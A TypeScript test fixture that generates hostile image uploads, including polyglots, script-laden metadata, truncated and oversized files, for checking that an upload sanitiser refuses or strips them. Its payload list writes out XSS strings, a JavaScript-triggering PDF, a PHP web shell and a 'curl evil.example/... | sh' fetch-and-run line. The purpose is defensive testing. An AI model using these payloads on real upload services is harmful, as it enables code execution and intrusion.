import { type AvifOptions, avifFile, box, codedSize, fullBox } from './avif'
import { big, join, little, type Part, store } from './bytes'
import { exifBlock, xmpPacket } from './camera'
import {
  animatedPng,
  animatedWebp,
  avif,
  blocks,
  chunk,
  EVERYTHING,
  gif,
  gifFrame,
  gifScreen,
  jpeg,
  PNG_SIGNATURE,
  png,
  pngHeader,
  riff,
  riffChunk,
  segment,
  webp,
  webpData,
  webpFrame,
  webpHeader,
} from './pictures'

/** An upload meant to do harm. A picture is one that may be kept once what is bad in it is gone. */
export type Hostile = { name: string; bytes: Uint8Array<ArrayBuffer>; isPicture?: boolean }

/** What must not be in any file that is kept. */
export const BAD_MARKS = ['<script', '<svg', '<html', '%PDF', 'PK\x03\x04', 'GPSMARK', 'HOSTILEMARK']

const SCRIPT = '<script>alert(document.cookie)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`
const PDF = '%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF'
const ZIP = join('PK\x03\x04', big(0, 22), 'a', 'PK\x01\x02', big(0, 42), 'PK\x05\x06', big(0, 18))

const refuse = (name: string, ...parts: Part[]): Hostile => ({ name, bytes: join(...parts) })
const strip = (name: string, ...parts: Part[]): Hostile => ({ name, bytes: join(...parts), isPicture: true })

const replace = (bytes: Uint8Array, at: number, ...parts: Part[]) => {
  const copy = bytes.slice()
  copy.set(join(...parts), at)
  return copy
}

const find = (bytes: Uint8Array, ...parts: Part[]) => {
  const wanted = join(...parts)
  return bytes.findIndex((_, at) => wanted.every((byte, index) => bytes[at + index] === byte))
}

const otherFiles = () => [
  refuse('nothing at all', ''),
  refuse('a single byte', [0xff]),
  refuse('zeros only', new Uint8Array(4096)),
  refuse('an SVG', SVG),
  refuse('an SVG after a byte order mark', '\xef\xbb\xbf', SVG),
  refuse('an SVG after an XML declaration', '<?xml version="1.0"?>', SVG),
  refuse('an HTML page', HTML),
  refuse('an HTML page that begins like a GIF', 'GIF89a', HTML),
  refuse('a script that begins like a GIF', `GIF89a/*${'x'.repeat(64)}*/=1;alert(1)//${SCRIPT}`),
  refuse('a script that begins like a JPEG', [0xff, 0xd8, 0xff, 0xe0], `/*${SCRIPT}*/=1`),
  refuse('a script that begins like a PNG', PNG_SIGNATURE, SCRIPT),
  refuse('a script that begins like a WebP', 'RIFF', little(64, 4), 'WEBPVP8 ', SCRIPT.padEnd(60)),
  refuse('a PDF', PDF),
  refuse('a ZIP', ZIP),
  refuse(
    'a BMP',
    'BM',
    little(70, 4),
    big(0, 4),
    little(54, 4),
    little(40, 4),
    little(1, 8),
    little(24, 4),
    big(0, 30),
  ),
  refuse('a TIFF with the place', exifBlock(6)),
  refuse('a TIFF of the other byte order', exifBlock(6, 'II')),
  refuse('an icon', [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 24, 0], little(40, 4), little(22, 4), new Uint8Array(40)),
  refuse(
    'an MP4 film',
    box('ftyp', 'isom', big(0, 4), 'isomavc1'),
    box('moov', box('mvhd', SCRIPT)),
    box('mdat', SCRIPT),
  ),
  refuse('a HEIC picture', avifFile({ brands: ['heic', 'heic', 'mif1'] })),
  refuse('a HEIF picture of an unknown codec', avifFile({ brands: ['mif1', 'mif1', 'miaf'] })),
  refuse('a WAVE sound', 'RIFF', little(36, 4), 'WAVEfmt ', little(16, 4), big(0, 16), 'data', big(0, 4)),
  refuse('a JPEG XL picture', [0, 0, 0, 12], 'JXL \r\n\x87\n', big(0, 16)),
]

const frame = (width: number, height: number, marker = 0xc0) =>
  segment(marker, [8], big(height, 2), big(width, 2), [1, 1, 0x11, 0])
const scan = join(segment(0xda, [1, 1, 0, 0, 63, 0]), [1, 2, 3, 0xff, 0xd9])
const SOI = [0xff, 0xd8]

const loopingExif = (order: 'II' | 'MM') => {
  const block = exifBlock(6, order)
  return replace(
    block,
    8 + 2,
    order === 'MM' ? big(0x8769, 2) : little(0x8769, 2),
    block.subarray(12, 18),
    block.subarray(4, 8),
  )
}

const jpegs = () => [
  strip('a JPEG with a page in its comment', jpeg({ comment: HTML })),
  strip(
    'a JPEG with a page in every application segment',
    jpeg({}, 'baseline', ...[...Array(16)].map((_, index) => segment(0xe0 + index, HTML))),
  ),
  strip(
    'a JPEG with a script in its thumbnail',
    jpeg({}, 'baseline', segment(0xe0, 'JFIF\0', [1, 2, 0, 0, 1, 0, 1, 4, 4], SCRIPT.padEnd(48))),
  ),
  strip(
    'a JPEG with a page said to be a colour profile',
    jpeg({}, 'baseline', segment(0xe2, 'ICC_PROFILE\0', [1, 1], HTML.padEnd(200))),
  ),
  strip('a JPEG with parts of a profile missing', jpeg({}, 'baseline', segment(0xe2, 'ICC_PROFILE\0', [2, 9], HTML))),
  strip(
    'a JPEG with a script where Adobe has flags',
    jpeg({}, 'baseline', segment(0xee, 'Adobe', [0, 100], '<scr', [1], 'ipt', SCRIPT)),
  ),
  strip('a JPEG with a script after the end', jpeg({ trailing: SCRIPT })),
  strip('a JPEG that is a ZIP as well', jpeg({ trailing: ZIP })),
  strip('a JPEG that is a PDF as well', jpeg({ comment: PDF, trailing: PDF })),
  strip('a JPEG with a height stated a second time', jpeg({}, 'baseline', segment(0xdc, [0xff, 0xff]))),
  strip(
    'a JPEG with bytes of fill before a segment',
    jpeg({}, 'baseline', new Uint8Array(999).fill(0xff), segment(0xfe, SCRIPT)),
  ),
  strip(
    'a JPEG whose Exif directory leads back to itself',
    jpeg({}, 'baseline', segment(0xe1, 'Exif\0\0', loopingExif('MM'))),
  ),
  strip(
    'a JPEG whose Exif directory is out of reach',
    jpeg({}, 'baseline', segment(0xe1, 'Exif\0\0MM\0*', big(0xfffffff0, 4), 'GPSMARK')),
  ),
  strip(
    'a JPEG whose Exif directory is the header itself',
    jpeg({}, 'baseline', segment(0xe1, 'Exif\0\0II*\0', little(0, 4), 'GPSMARK')),
  ),
  strip(
    'a JPEG with more Exif entries than bytes',
    jpeg({}, 'baseline', segment(0xe1, 'Exif\0\0MM\0*', big(8, 4), [255, 255], 'GPSMARK')),
  ),
  strip('a JPEG with an orientation there is not', jpeg({ orientation: 0x4750 })),
  refuse('a JPEG of nothing but its markers', SOI, [0xff, 0xd9]),
  refuse('a JPEG without a frame', SOI, scan),
  refuse('a JPEG without a scan', SOI, frame(24, 16), [0xff, 0xd9]),
  refuse('a JPEG without an end', jpeg().subarray(0, -2)),
  refuse('a JPEG with a scan before its frame', SOI, scan.subarray(0, -2), frame(24, 16), [0xff, 0xd9]),
  refuse('a JPEG with two frames', SOI, frame(24, 16), frame(1, 1), scan),
  refuse('a JPEG of no width', SOI, frame(0, 16), scan),
  refuse('a JPEG of no height', SOI, frame(24, 0), scan),
  refuse('a JPEG of 65535 by 65535 pixels', SOI, frame(65535, 65535), scan),
  refuse('a JPEG of a lossless frame', SOI, frame(24, 16, 0xc3), scan),
  refuse('a JPEG of a hierarchical frame', SOI, frame(24, 16, 0xc5), scan),
  refuse('a JPEG segment of length 0', SOI, [0xff, 0xfe, 0, 0], frame(24, 16), scan),
  refuse('a JPEG segment of length 1', SOI, [0xff, 0xfe, 0, 1], frame(24, 16), scan),
  refuse('a JPEG segment past the end', SOI, frame(24, 16), [0xff, 0xfe, 0xff, 0xff], SCRIPT, scan),
  refuse('a JPEG with text between segments', SOI, SCRIPT, frame(24, 16), scan),
  refuse('a JPEG with a second start inside', SOI, frame(24, 16), jpeg()),
  refuse('a JPEG with a page for a quantization table', SOI, segment(0xdb, HTML), frame(24, 16), scan),
  refuse(
    'a JPEG with half a quantization table',
    SOI,
    segment(0xdb, [0], new Uint8Array(64), [0], SCRIPT),
    frame(24, 16),
    scan,
  ),
  refuse('a JPEG with a start between its segments', SOI, SOI, frame(24, 16), scan),
  refuse('a JPEG with a page for a Huffman table', SOI, segment(0xc4, HTML), frame(24, 16), scan),
  refuse('a JPEG with a script after a frame header', SOI, segment(0xc0, [8, 0, 16, 0, 24, 1, 1, 17, 0], SCRIPT), scan),
  refuse('a JPEG of fill without end', SOI, new Uint8Array(65536).fill(0xff)),
  refuse('a JPEG of markers that stand alone without end', SOI, ...Array(9999).fill([0xff, 0x01])),
]

const data = chunk('IDAT', store(new Uint8Array(17)))
const END = chunk('IEND')
const head = pngHeader(4, 1)

const pngs = () => [
  strip('a PNG with a script in a text', png({ comment: SCRIPT })),
  strip('a PNG with a script in a packed text', png({}, 'before', chunk('zTXt', 'Comment\0\0', store(SCRIPT)))),
  strip('a PNG with a script in an international text', png({}, 'before', chunk('iTXt', 'a\0\0\0\0\0', SVG))),
  strip('a PNG with a page after its end', png({ trailing: HTML })),
  strip('a PNG that is a ZIP as well', png({ trailing: ZIP })),
  strip('a PNG with a PDF in a chunk of its own', png({}, 'before', chunk('prVt', PDF))),
  strip('a PNG with a critical chunk of its own', png({}, 'before', chunk('PWND', PDF))),
  strip('a PNG with a script for the name of its profile', png({}, 'before', chunk('iCCP', SCRIPT, '\0\0', store('')))),
  strip('a PNG with a page said to be a profile', png({}, 'before', chunk('iCCP', 'a\0\0', HTML))),
  strip('a PNG with a script for a suggested palette', png({}, 'before', chunk('sPLT', SCRIPT, '\0\x08'))),
  strip(
    'a PNG with chunks longer than they may be',
    png({}, 'before', ...['bKGD', 'sBIT', 'tRNS', 'hIST', 'cICP'].map((type) => chunk(type, SVG))),
  ),
  strip('a PNG with frames that no animation has', png({}, 'before', chunk('fcTL', SVG), chunk('fdAT', SVG))),
  strip('a PNG with Exif after its end', png({ trailing: chunk('eXIf', exifBlock(6)) })),
  strip('an animated PNG with texts between its frames', animatedPng({ comment: SCRIPT, exif: true })),
  refuse('a PNG of its signature alone', PNG_SIGNATURE),
  refuse('a PNG that does not begin with its header', PNG_SIGNATURE, chunk('gAMA', big(1, 4)), head, data, END),
  refuse('a PNG with a wrong check sum', PNG_SIGNATURE, head, replace(data, data.length - 4, [1, 2, 3, 4]), END),
  refuse('a PNG with a wrong check sum of its header', PNG_SIGNATURE, replace(head, 8, big(9, 4)), data, END),
  refuse('a PNG with a chunk of 4 GiB', PNG_SIGNATURE, head, replace(data, 0, big(0xffffffff, 4)), END),
  refuse('a PNG with a chunk of 2 GiB', PNG_SIGNATURE, head, replace(data, 0, big(0x7fffffff, 4)), END),
  refuse(
    'a PNG with a header that is too long',
    PNG_SIGNATURE,
    chunk('IHDR', big(4, 4), big(1, 4), [8, 2, 0, 0, 0], SCRIPT),
    data,
    END,
  ),
  refuse('a PNG with two headers', PNG_SIGNATURE, head, head, data, END),
  refuse('a PNG of no width', PNG_SIGNATURE, pngHeader(0, 1), data, END),
  refuse('a PNG of no height', PNG_SIGNATURE, pngHeader(1, 0), data, END),
  refuse('a PNG of 2 billion by 1 pixels', PNG_SIGNATURE, pngHeader(0x7fffffff, 1), data, END),
  refuse('a PNG of 4 billion by 4 billion pixels', PNG_SIGNATURE, pngHeader(0xffffffff, 0xffffffff), data, END),
  refuse('a PNG of a depth there is not', PNG_SIGNATURE, pngHeader(4, 1, 3, 2), data, END),
  refuse('a PNG of a colour type there is not', PNG_SIGNATURE, pngHeader(4, 1, 8, 5), data, END),
  refuse('a PNG packed in another way', PNG_SIGNATURE, pngHeader(4, 1, 8, 2, 1, 0, 0), data, END),
  refuse('a PNG without picture data', PNG_SIGNATURE, head, END),
  refuse('a PNG without an end', PNG_SIGNATURE, head, data),
  refuse('a PNG without the palette it needs', PNG_SIGNATURE, pngHeader(4, 1, 8, 3), data, END),
  refuse('a PNG with a text inside its picture data', PNG_SIGNATURE, head, data, chunk('tEXt', SCRIPT), data, END),
  refuse('an animated PNG with a frame beyond its edge', replacedFrame()),
]

function replacedFrame() {
  const bytes = animatedPng()
  const at = find(bytes, 'fcTL')
  const body = replace(bytes.slice(at, at + 30), 8, big(0xffffffff, 4))
  return replace(bytes, at - 4, chunk('fcTL', body.subarray(4)))
}

const application = (name: string, ...parts: Part[]) => join([0x21, 0xff, 11], name, ...parts)

const gifs = () => [
  strip('a GIF with a script in its comment', gif({ comment: SCRIPT })),
  strip('a GIF with a page in XMP', gif({}, application('XMP DataXMP', blocks(HTML)))),
  strip('a GIF with a page in an extension of its own', gif({}, application('SCRIPTALERT', blocks(HTML)))),
  strip('a GIF with a script behind its loop count', gif({}, application('NETSCAPE2.0', [3, 1, 0, 0], blocks(SCRIPT)))),
  strip('a GIF with a script for its loop count', gif({}, application('ANIMEXTS1.0', blocks(SCRIPT)))),
  strip(
    'a GIF with loop counts without end',
    gif({}, ...Array(99).fill(application('NETSCAPE2.0', blocks([1, 60, 115])))),
  ),
  strip('a GIF with an extension of an unknown kind', gif({}, [0x21, 0x99], blocks(SVG))),
  strip('a GIF that is a ZIP as well', gif({ trailing: ZIP })),
  refuse('a GIF without a picture', gifScreen(4, 4), [0x3b]),
  refuse('a GIF without an end', gifScreen(4, 4), gifFrame(4, 4)),
  refuse('a GIF of no width', gifScreen(0, 4), gifFrame(4, 4), [0x3b]),
  refuse('a GIF of no height', gifScreen(4, 0), gifFrame(4, 4), [0x3b]),
  refuse('a GIF of 65535 by 65535 pixels', gifScreen(65535, 65535), gifFrame(4, 4), [0x3b]),
  refuse('a GIF with a frame of 65535 by 65535 pixels', gifScreen(4, 4), gifFrame(65535, 65535), [0x3b]),
  refuse('a GIF with a frame far off', gifScreen(4, 4), gifFrame(4, 60000, 60000), [0x3b]),
  refuse('a GIF with a frame of no size', gifScreen(4, 4), gifFrame(0, 4, 4), [0x3b]),
  refuse('a GIF with blocks without end', gifScreen(4, 4), [0x21, 0xfe], new Uint8Array(65536).fill(1)),
  refuse('a GIF with blocks of 255 without end', gifScreen(4, 4), [0x21, 0xfe], new Uint8Array(65536).fill(255)),
  refuse('a GIF with a colour table past the end', 'GIF89a', little(4, 2), little(4, 2), [0xf7, 0, 0], 'abc'),
  refuse(
    'a GIF with a control block of another length',
    gifScreen(4, 4),
    [0x21, 0xf9],
    blocks(SCRIPT),
    gifFrame(4, 4),
    [0x3b],
  ),
  refuse('a GIF with text between its blocks', gifScreen(4, 4), SCRIPT, gifFrame(4, 4), [0x3b]),
]

const lossless = (width: number, height: number) =>
  riffChunk('VP8L', [0x2f], little(width - 1 + (height - 1) * 16384, 4), [0, 0])
const lossy = (width: number, height: number, tag = 0x10) =>
  riffChunk('VP8 ', little(tag, 3), '\x9d\x01\x2a', little(width, 2), little(height, 2), big(0, 8))

const webps = () => [
  refuse(
    'an animated WebP with a frame beyond its right edge',
    riff(webpHeader(2), riffChunk('ANIM', big(0, 6)), webpFrame(2, 0, webpData('lossy'))),
  ),
  refuse('a WebP with a chunk past its end', riff(webpHeader(0), webpData('lossy'), 'NOTE', little(99, 4))),
  strip('a WebP with a page in a chunk of its own', webp({ comment: HTML })),
  strip(
    'a WebP with a page said to be a profile',
    riff(webpHeader(32), riffChunk('ICCP', HTML.padEnd(300)), webpData('lossy')),
  ),
  strip('a WebP with a page after its picture', riff(webpData('lossless'), riffChunk('HTML', HTML))),
  strip('a WebP that is a ZIP as well', webp({ trailing: ZIP })),
  strip(
    'a WebP with Exif it does not announce',
    riff(webpHeader(0), webpData('lossy'), riffChunk('EXIF', exifBlock(9), SVG)),
  ),
  strip('a WebP with a second picture of another size', riff(webpHeader(0), webpData('lossy'), lossless(16000, 16000))),
  strip('a WebP with frames it does not announce', riff(webpHeader(0), riffChunk('ANMF', SVG), webpData('lossy'))),
  strip('an animated WebP with a script in its frames', animatedWebp({ comment: HTML }, riffChunk('NOTE', SCRIPT))),
  refuse('a WebP that says it is longer', replace(webp(), 4, little(9999, 4))),
  refuse('a WebP that says it is 4 GiB', replace(webp(), 4, little(0xffffffff, 4))),
  refuse('a WebP that says it is shorter', replace(webp(), 4, little(40, 4))),
  refuse('a WebP that says it is empty', replace(webp(), 4, little(0, 4))),
  refuse('a WebP with a chunk of 4 GiB', replace(webp(), 16, little(0xffffffff, 4))),
  refuse('a WebP without a picture', riff(webpHeader(0))),
  refuse('a WebP with nothing but Exif', riff(webpHeader(8), riffChunk('EXIF', exifBlock(6)))),
  refuse('a WebP of another size than its picture', riff(webpHeader(0, 4000, 4000), webpData('lossy'))),
  refuse('a WebP of 16 million by 16 million pixels', riff(webpHeader(0, 2 ** 24, 2 ** 24), webpData('lossy'))),
  refuse('a lossless WebP of 16384 by 16384 pixels', riff(lossless(16384, 16384))),
  refuse('a lossy WebP of 16383 by 16383 pixels', riff(lossy(16383, 16383))),
  refuse('a lossy WebP of no width', riff(lossy(0, 16))),
  refuse('a lossy WebP that does not begin with a key frame', riff(lossy(24, 16, 0x11))),
  refuse('a lossless WebP of a version there is not', riff(riffChunk('VP8L', [0x2f], little(0xe0000000, 4), SCRIPT))),
  refuse('an animated WebP without frames', riff(webpHeader(2), riffChunk('ANIM', big(0, 6)))),
  refuse(
    'an animated WebP with a frame beyond its edge',
    riff(webpHeader(2), riffChunk('ANIM', big(0, 6)), webpFrame(2, 2, webpData('lossy'))),
  ),
  refuse(
    'an animated WebP with a frame of text',
    riff(webpHeader(2), riffChunk('ANIM', big(0, 6)), webpFrame(0, 0, SVG)),
  ),
  refuse(
    'an animated WebP with animations inside',
    riff(webpHeader(2), riffChunk('ANIM', big(0, 6)), webpFrame(0, 0, webpFrame(0, 0, webpData('lossy')))),
  ),
]

const broken = (name: string, options: AvifOptions) => refuse(name, avifFile(options))

const patched = (name: string, type: string, offset: number, ...parts: Part[]) => {
  const bytes = avifFile({ exif: exifBlock(6) })
  return refuse(name, replace(bytes, find(bytes, type) + offset, ...parts))
}

const nested = (depth: number): Uint8Array => (depth === 0 ? join(SCRIPT) : box('meta', nested(depth - 1)))

const avifs = () => [
  strip('an AVIF with Exif and XMP', avif({ exif: true, xmp: true })),
  strip('an AVIF with a page for every name', avif({ comment: HTML })),
  strip(
    'an AVIF with a page in a box of its own',
    avifFile({ boxes: [box('uuid', '0123456789abcdef', HTML), box('html', HTML)] }),
  ),
  strip(
    'an AVIF with a page inside its tables',
    avifFile({ tables: [box('xml ', HTML), box('uuid', HTML), box('free', HTML)] }),
  ),
  strip('an AVIF that is a ZIP as well', avif({ trailing: ZIP })),
  strip(
    'an AVIF with a film beside its picture',
    avifFile({ boxes: [box('moov', box('mvhd', HTML), box('udta', HTML))] }),
  ),
  strip('an AVIF with metadata in the box for small data', avif({ exif: true, xmp: true }, { isSmall: true })),
  strip(
    'an AVIF with relations that go in circles',
    avifFile({ references: [box('dimg', big(1, 2), big(1, 2), big(1, 2))] }),
  ),
  strip('an AVIF with relations to nothing', avifFile({ references: [box('auxl', big(99, 2), big(1, 2), big(1, 2))] })),
  strip('an AVIF with brands that spell a script', avifFile({ brands: ['avif', '<scr', 'ipt>', 'avif', 'mif1'] })),
  strip('an AVIF with boxes within boxes', avifFile({ boxes: [box('abcd', nested(200))] })),
  strip('an animated AVIF with the place in its tracks', avif(EVERYTHING, { isAnimated: true })),
  ...[
    'pixi\0\0\0\0\x03\x08\x08\x08',
    'colrnclx\0\x01\0\r\0\x06\x80',
    'irot\0',
    'imir\0',
    'clli\0\0\0\0',
    'colrprof',
  ].map((property) =>
    strip(
      `an AVIF with a script behind its ${property.slice(0, 4)}`,
      avifFile({ properties: [box(property.slice(0, 4), property.slice(4), SCRIPT)] }),
    ),
  ),
  broken('an AVIF of no size', { width: 0 }),
  broken('an AVIF of 4 billion by 4 billion pixels', { width: 0xffffffff, height: 0xffffffff }),
  broken('an AVIF of 10000 by 10000 pixels', { width: 10000, height: 10000 }),
  broken('an AVIF whose data is of 65536 by 65536 pixels', { data: codedSize(65536, 65536) }),
  broken('an AVIF whose data is text', { data: HTML }),
  broken('an AVIF whose data is empty', { data: '' }),
  broken('an AVIF whose data is out of reach', { shift: 0x7fffffff }),
  broken('an AVIF whose data is before its place', { shift: -200 }),
  broken('an AVIF whose data runs past the end', { length: 0xffffffff }),
  broken('an AVIF whose data is one byte too long', { length: 49 }),
  broken('an AVIF whose data is of no length', { length: 0 }),
  broken('an AVIF with a grid of 60000 by 60000 pixels', {
    isGrid: true,
    grid: [0, 0, 0, 1, ...big(60000, 2), ...big(60000, 2)],
  }),
  broken('an AVIF with a grid of more parts than it has', { isGrid: true, grid: [0, 0, 255, 255, 0, 128, 0, 64] }),
  broken('an AVIF with a grid of parts that are too large together', {
    isGrid: true,
    grid: [0, 0, 0, 4, 1, 64, 0, 64],
    cells: Array(5).fill(codedSize(7000, 7000)),
  }),
  broken('an AVIF with a page for a grid', { isGrid: true, grid: HTML }),
  broken('an AVIF that is its own part', {
    isGrid: true,
    references: [box('dimg', big(1, 2), big(2, 2), big(1, 2), big(1, 2))],
  }),
  broken('an AVIF that says it is animated, and is not', { brands: ['avis', 'avif', 'avis'] }),
  broken('an AVIF with a broken animation', {
    brands: ['avis', 'avif', 'avis'],
    boxes: [box('moov', box('trak', SCRIPT))],
  }),
  broken('an AVIF with two tables', { boxes: [fullBox('meta', 0, 0)] }),
  broken('an AVIF with two handlers', { tables: [fullBox('hdlr', 0, 0, big(0, 20))] }),
  patched('an AVIF with a table of size 0', 'iloc', -4, big(0, 4)),
  patched('an AVIF with a table of size 1', 'iloc', -4, big(1, 4)),
  patched('an AVIF with a table of size 7', 'iloc', -4, big(7, 4)),
  patched('an AVIF with a table of 4 GiB', 'iloc', -4, big(0xffffffff, 4)),
  patched('an AVIF with tables past the end', 'meta', -4, big(0x7fffffff, 4)),
  patched('an AVIF with a handler of another kind', 'pict', 0, 'vide'),
  patched('an AVIF whose picture is Exif', 'pitm', 8, big(5, 2)),
  patched('an AVIF whose picture is missing', 'pitm', 8, big(77, 2)),
  patched('an AVIF with more places than bytes', 'iloc', 10, big(0xffff, 2)),
  patched('an AVIF with places of odd widths', 'iloc', 8, [0x33]),
  patched('an AVIF with places of no length', 'iloc', 8, [0x40]),
  patched('an AVIF with more properties than bytes', 'ipma', 8, big(0xffffffff, 4)),
  patched('an AVIF without the property of its size', 'ispe', 0, 'free'),
  patched('an AVIF with data elsewhere', 'iloc', 14, big(1, 2)),
  patched('an AVIF of another codec', 'av01', 0, 'hvc1'),
]

// Many parts as small as can be: what is done for each of them must not add up.
const crowds = () => [
  strip('a JPEG of 50,000 empty comments', jpeg({}, 'baseline', ...Array(50_000).fill(segment(0xfe)))),
  strip('a PNG of 20,000 empty texts', png({}, 'before', ...Array(20_000).fill(chunk('tEXt')))),
  strip('a GIF of 50,000 empty comments', gif({}, ...Array(50_000).fill([0x21, 0xfe, 0]))),
  strip(
    'a WebP of 50,000 empty chunks',
    riff(webpHeader(0), ...Array(50_000).fill(riffChunk('abcd')), webpData('lossy')),
  ),
  refuse('an AVIF of 50,000 empty boxes', avifFile({ boxes: [join(...Array(50_000).fill(box('free')))] })),
  refuse('an AVIF of 50,000 boxes in its tables', avifFile({ tables: [join(...Array(50_000).fill(box('free')))] })),
  refuse('an AVIF of 50,000 relations', avifFile({ references: [relation(1), ...Array(9).fill(relation(5_500))] })),
]

const relation = (count: number) => box('auxl', big(1, 2), big(count, 2), ...Array(count).fill(big(1, 2)))

const PAYLOADS: [name: string, payload: Part][] = [
  ['a page', HTML],
  ['an SVG', SVG],
  ['a PDF', PDF],
  ['a ZIP', ZIP],
  ['a Windows program', join('MZ', big(0, 58), little(64, 4), 'PE\0\0HOSTILEMARK')],
  ['a Linux program', '\x7fELF\x02\x01\x01HOSTILEMARK'],
  ['a shell script', '#!/bin/sh\ncurl evil.example/HOSTILEMARK | sh\n'],
  ['a PHP script', '<?php system($_GET["HOSTILEMARK"]); ?>'],
]

/** Every format with every payload behind it, which goes, and before it, where it is no picture any more. */
const polyglots = () =>
  Object.entries({ JPEG: jpeg, PNG: png, GIF: gif, WebP: webp, AVIF: avif }).flatMap(([format, make]) =>
    PAYLOADS.flatMap(([name, payload]) => [
      strip(`a ${format} with ${name} behind it`, make({ trailing: payload })),
      refuse(`a ${format} with ${name} before it`, payload, make()),
    ]),
  )

const cut = (name: string, bytes: Uint8Array) =>
  [12, 16, 24, 30, 40].map((length) => refuse(`a ${name} cut off after ${length} bytes`, bytes.subarray(0, length)))

/** Uploads meant to do harm, of every kind there is a defence against. */
export const hostileFiles = (): Hostile[] => [
  ...otherFiles(),
  ...jpegs(),
  ...pngs(),
  ...gifs(),
  ...webps(),
  ...avifs(),
  ...crowds(),
  ...polyglots(),
  ...cut('JPEG', jpeg(EVERYTHING)),
  ...cut('PNG', png(EVERYTHING)),
  ...cut('GIF', gif(EVERYTHING)),
  ...cut('WebP', webp(EVERYTHING)),
  ...cut('AVIF', avif(EVERYTHING)),
  strip('an AVIF with nothing but the words of XMP', avif({}, { xmp: `${xmpPacket()}${SCRIPT}` })),
]
